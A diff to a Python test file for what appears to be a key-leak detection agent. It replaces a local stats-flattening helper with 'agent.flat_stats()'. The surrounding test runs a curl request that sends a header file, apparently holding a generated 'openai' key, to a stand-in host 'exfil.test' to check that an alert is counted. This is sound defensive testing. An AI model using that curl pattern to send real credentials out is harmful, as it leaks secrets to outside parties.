@@ -119,14 +119,6 @@ def test_scan_reports_findings_redacted_with_exit_codes(agent_binary, registry, 
     assert "missing.txt" in out
 
 
-def _flatten(stats, prefix=""):
-    for name, value in stats.items():
-        if isinstance(value, dict):
-            yield from _flatten(value, f"{prefix}{name}.")
-        else:
-            yield f"{prefix}{name}", value
-
-
 def test_stats_file_counts_alerts_and_drops_and_survives_exit(
         agent, clients, https_server, curl, registry, scratch):
     key = registry.new("openai")
@@ -135,7 +127,7 @@ def test_stats_file_counts_alerts_and_drops_and_survives_exit(
     clients.run(curl.https(https_server, "exfil.test", "/v1") + ["-H", f"@{headers}", "-d", "{}"])
     assert agent.wait_for_alerts(timeout=5.0), agent.diagnostics()
     assert agent.stop() == 0, agent.diagnostics()
-    counters = dict(_flatten(agent.stats()))
+    counters = agent.flat_stats()
     assert counters, f"stats file {agent.stats_file} missing or not a JSON object after exit"
     assert any("alert" in k and isinstance(v, int) and v >= 1 for k, v in counters.items()), (
         f"no alert counter >= 1: {counters}")
